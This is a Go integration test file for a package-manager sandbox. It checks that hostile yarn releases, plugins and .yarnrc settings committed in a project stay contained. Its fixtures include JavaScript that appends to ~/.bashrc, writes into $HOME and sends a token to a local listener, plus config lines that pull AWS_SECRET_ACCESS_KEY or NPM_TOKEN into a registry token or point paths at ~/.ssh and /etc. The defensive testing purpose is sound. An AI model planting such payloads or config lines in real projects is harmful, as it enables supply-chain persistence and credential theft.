package integration

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// A cloned project's .yarnrc / .yarnrc.yml is attacker input (issue 9 classes 1 and
// 3, issue 14 case 6): its yarn-path/yarnPath release and plugins never run on the
// host or with the network, its paths never reach outside the project, and its
// ${VAR}s are never filled from the caller's environment. Each attack has its
// legitimate twin: the same committed release still installs, in the offline build.

// classicYarnJS is the yarn 1 the PATH's yarn resolves to (Debian's npm -g layout).
const classicYarnJS = "/usr/lib/node_modules/yarn/bin/yarn.js"

// hostileRelease is a committed "yarn release" that tries what a hostile one would
// (append to ~/.bashrc, drop a marker in $HOME, call a 127.0.0.1 listener), says so
// on stderr, then hands over to the real yarn: the install must still work.
func hostileRelease(b *pmBox, tag string, port int, realYarn string) string {
	return fmt.Sprintf(`const fs = require("fs"), net = require("net");
try { fs.appendFileSync(%[1]q + "/.bashrc", "pbox-owned-by-%[2]s\n"); } catch (e) {}
try { fs.writeFileSync(%[1]q + "/pbox-%[2]s-ran", "ran"); } catch (e) {}
const s = net.connect(%[3]d, "127.0.0.1");
s.on("error", () => {});
s.on("connect", () => { s.write("token"); s.end(); });
console.error("pbox-%[2]s: ran");
require(%[4]q);
`, b.Home, tag, port, realYarn)
}

// hostilePlugin is a berry plugin doing the same when yarn loads it.
func hostilePlugin(b *pmBox, port int) string {
	return fmt.Sprintf(`module.exports = { name: "pbox-evil", factory: () => {
  const fs = require("fs"), net = require("net");
  try { fs.writeFileSync(%[1]q + "/pbox-plugin-ran", "ran"); } catch (e) {}
  const s = net.connect(%[2]d, "127.0.0.1");
  s.on("error", () => {});
  s.on("connect", () => { s.write("token"); s.end(); });
  console.error("pbox-plugin: loaded");
  return {};
} };
`, b.Home, port)
}

func classicProject(t *testing.T, b *pmBox) {
	t.Helper()
	requireTool(t, "yarn")
	if _, err := os.Stat(classicYarnJS); err != nil {
		skipf(t, "yarn classic is not at %s: %v", classicYarnJS, err)
	}
	// No packageManager, no lockfile: the flavour comes from the installed yarn's
	// package.json — the case that used to run `yarn --version` in the project.
	setManifest(t, b, map[string]any{"name": "pbox-it", "version": "1.0.0", "license": "MIT"})
	cache := filepath.Join(b.Home, ".cache", "yarn")
	mkdirOwned(t, b.Mode, cache, 0o755)
	chownTree(t, b.Mode, b.Home)
	b.Env = append(b.Env, "YARN_CACHE_FOLDER="+cache)
}

func TestProjectConfigYarnClassicYarnPath(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		classicProject(t, b)
		port, accepted := loopbackListener(t)
		writeFile(t, filepath.Join(b.Project, ".yarn", "releases", "yarn-1.22.22.cjs"), hostileRelease(b, "yarnpath", port, classicYarnJS), 0o755)
		writeFile(t, filepath.Join(b.Project, ".yarnrc"), "yarn-path \".yarn/releases/yarn-1.22.22.cjs\"\n", 0o644)
		chownTree(t, m, b.Project)
		homeBefore := pmHomeHash(b)

		r := b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 0, "yarn add with a committed yarn-path release")
		if b.installedLodash() == "" {
			t.Errorf("lodash is not installed\n%s", r)
		}
		// The release ran — in the sandbox's offline build step only.
		wantStderr(t, r, "pbox-yarnpath: ran")
		if n := accepted(); n != 0 {
			t.Errorf("the project's release reached a 127.0.0.1 listener %d times: it ran with the network (or on the host)", n)
		}
		if pathExists(filepath.Join(b.Home, "pbox-yarnpath-ran")) {
			t.Error("the project's release wrote into the caller's $HOME: it ran on the host")
		}
		assertSameTree(t, homeBefore, pmHomeHash(b), "the caller's $HOME after a yarn-path project")

		// A yarn-path outside the project is refused before anything runs.
		outside := filepath.Join(b.Home, "evil-yarn.cjs")
		writeFile(t, outside, hostileRelease(b, "outside", port, classicYarnJS), 0o755)
		writeFile(t, filepath.Join(b.Project, ".yarnrc"), "yarn-path \""+outside+"\"\n", 0o644)
		chownTree(t, m, b.Home)
		r = b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 2, "a yarn-path outside the project")
		wantStderr(t, r, ".yarnrc:1", "yarn-path", "outside the project")
		if strings.Contains(r.Stderr, "pbox-outside: ran") || pathExists(filepath.Join(b.Home, "pbox-outside-ran")) || accepted() != 0 {
			t.Errorf("the outside release ran\n%s", r)
		}
	})
}

func TestProjectConfigYarnClassicEnvReference(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		classicProject(t, b)
		// The attack: the project asks for a host variable as a registry token.
		writeFile(t, filepath.Join(b.Project, ".yarnrc"), "\"//registry.yarnpkg.com/:_authToken\" \"${AWS_SECRET_ACCESS_KEY}\"\n", 0o644)
		chownTree(t, m, b.Project)
		before := projectState(t, b.Project)
		r := b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 2, "a project .yarnrc referring to ${AWS_SECRET_ACCESS_KEY}")
		wantStderr(t, r, ".yarnrc:1", "AWS_SECRET_ACCESS_KEY", "~/.yarnrc")
		assertSameTree(t, before, projectState(t, b.Project), "a refused install")

		// The twin: data settings in the project file are honoured.
		writeFile(t, filepath.Join(b.Project, ".yarnrc"), "network-timeout 600000\n", 0o644)
		chownTree(t, m, b.Project)
		r = b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 0, "a project .yarnrc with data settings")
	})
}

func berryProject(t *testing.T, b *pmBox, rc string, port int) {
	t.Helper()
	requireTool(t, "yarn")
	release := filepath.Join(berryRelease, "bin", "yarn.js")
	if _, err := os.Stat(release); err != nil {
		skipf(t, "yarn berry is not installed (%v); run hack/install-deps.d/node.sh as root", err)
	}
	writeFile(t, filepath.Join(b.Project, ".yarn", "releases", "yarn-berry.cjs"), hostileRelease(b, "yarnPath", port, release), 0o755)
	writeFile(t, filepath.Join(b.Project, ".yarnrc.yml"), "yarnPath: .yarn/releases/yarn-berry.cjs\nenableTelemetry: false\n"+rc, 0o644)
	setManifest(t, b, map[string]any{"name": "pbox-it", "version": "1.0.0"})
	b.Env = append(b.Env, "PHYLUM_BOX_YARN_BERRY="+release)
}

func TestProjectConfigYarnBerryReleaseAndPlugins(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		port, accepted := loopbackListener(t)
		berryProject(t, b, "nodeLinker: node-modules\nplugins:\n  - path: .yarn/plugins/pbox-evil.cjs\n    spec: pbox-evil\n", port)
		writeFile(t, filepath.Join(b.Project, ".yarn", "plugins", "pbox-evil.cjs"), hostilePlugin(b, port), 0o644)
		chownTree(t, m, b.Project)
		homeBefore := pmHomeHash(b)

		r := b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 0, "yarn add in a berry project with a committed release and plugin")
		if b.installedLodash() == "" {
			t.Errorf("lodash is not installed\n%s", r)
		}
		// Both ran, in the offline build step only.
		wantStderr(t, r, "pbox-yarnPath: ran", "pbox-plugin: loaded")
		if n := accepted(); n != 0 {
			t.Errorf("the project's release or plugin reached a 127.0.0.1 listener %d times", n)
		}
		for _, f := range []string{"pbox-yarnPath-ran", "pbox-plugin-ran"} {
			if pathExists(filepath.Join(b.Home, f)) {
				t.Errorf("%s: project code wrote into the caller's $HOME", f)
			}
		}
		assertSameTree(t, homeBefore, pmHomeHash(b), "the caller's $HOME after a berry project with a release and plugins")

		// Without a berry of the caller's, the release would be the only yarn berry
		// there is: refused, nothing ran.
		b.Env = []string{}
		r = b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 2, "a berry project whose caller has only yarn classic")
		wantStderr(t, r, ".yarnrc.yml:1 yarnPath", "PHYLUM_BOX_YARN_BERRY")
		if strings.Count(r.Stderr, "pbox-yarnPath: ran") != 0 || accepted() != 0 {
			t.Errorf("the release ran\n%s", r)
		}
	})
}

func TestProjectConfigYarnBerryPaths(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		port, accepted := loopbackListener(t)
		sshDir := filepath.Join(b.Home, ".ssh")
		stBefore, err := os.Stat(sshDir)
		if err != nil {
			t.Fatal(err)
		}
		etcTarget := filepath.Join("/etc", fmt.Sprintf("pbox-it-yarn-%d", port))
		for _, tc := range []struct{ rc, setting string }{
			{"globalFolder: " + filepath.Join(sshDir, "yarn-global") + "\n", "globalFolder"},
			{"globalFolder: ../../.ssh\n", "globalFolder ../../.ssh"},
			{"enableGlobalCache: false\ncacheFolder: " + etcTarget + "\n", "cacheFolder " + etcTarget},
			{"virtualFolder: " + filepath.Join(sshDir, "__virtual__") + "\n", "virtualFolder"},
			{"installStatePath: " + filepath.Join(b.Home, ".bashrc") + "\n", "installStatePath"},
			{"npmScopes:\n  pboxit:\n    npmAuthToken: ${NPM_TOKEN}\n", "environment variable"},
		} {
			berryProject(t, b, tc.rc, port)
			chownTree(t, m, b.Project)
			before := projectState(t, b.Project)
			r := b.tool("", "yarn", "add", "lodash")
			wantCode(t, r, 2, tc.rc)
			wantStderr(t, r, ".yarnrc.yml:", tc.setting)
			assertSameTree(t, before, projectState(t, b.Project), "a refused install")
			if strings.Contains(r.Stderr, "pbox-yarnPath: ran") {
				t.Errorf("%s: the release ran", tc.rc)
			}
		}
		for _, p := range []string{filepath.Join(sshDir, "yarn-global"), filepath.Join(sshDir, "__virtual__"), etcTarget} {
			if pathExists(p) {
				t.Errorf("%s was created", p)
			}
		}
		stAfter, _ := os.Stat(sshDir)
		if stAfter.Mode() != stBefore.Mode() || ownerOf(stAfter) != ownerOf(stBefore) {
			t.Errorf("~/.ssh changed: %v %s → %v %s", stBefore.Mode(), ownerOf(stBefore), stAfter.Mode(), ownerOf(stAfter))
		}

		// The twins: a project cache inside the project, and the ${VAR} moved to the
		// caller's own ~/.yarnrc.yml.
		writeFile(t, filepath.Join(b.Home, ".yarnrc.yml"), "npmScopes:\n  pboxit:\n    npmAuthToken: ${NPM_TOKEN}\n", 0o600)
		berryProject(t, b, "nodeLinker: node-modules\nenableGlobalCache: false\ncacheFolder: ./.yarn/cache\n", port)
		chownTree(t, m, b.Home)
		r := b.tool("", "yarn", "add", "lodash")
		wantCode(t, r, 0, "a berry project with its cache inside the project")
		if zips, _ := filepath.Glob(filepath.Join(b.Project, ".yarn", "cache", "lodash-npm-*.zip")); len(zips) == 0 {
			t.Errorf("the project cache holds no lodash archive\n%s", r)
		}
		if accepted() != 0 {
			t.Error("project code reached the listener")
		}
	})
}

// installedLodash is lodash's directory under node_modules, or "".
func (b *pmBox) installedLodash() string {
	d := filepath.Join(b.Project, "node_modules", "lodash")
	if _, err := os.Stat(filepath.Join(d, "package.json")); err != nil {
		return ""
	}
	return d
}

// ownerOf is "uid:gid" of a file.
func ownerOf(st os.FileInfo) string {
	if sys, ok := st.Sys().(*syscall.Stat_t); ok {
		return fmt.Sprintf("%d:%d", sys.Uid, sys.Gid)
	}
	return "?"
}
